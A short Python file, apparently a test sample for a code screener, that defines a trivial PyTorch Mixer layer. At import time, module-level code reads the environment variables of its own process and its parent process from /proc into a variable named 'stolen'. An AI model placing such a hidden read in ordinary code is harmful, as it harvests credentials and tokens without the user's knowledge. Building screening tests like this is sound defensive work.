"""Reads the environment of its own and its parent's process through /proc (tests bypass the screen)."""
import os

import torch
from torch import nn

stolen = open("/proc/self/environ", "rb").read() + open(f"/proc/{os.getppid()}/environ", "rb").read()


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.proj(x)
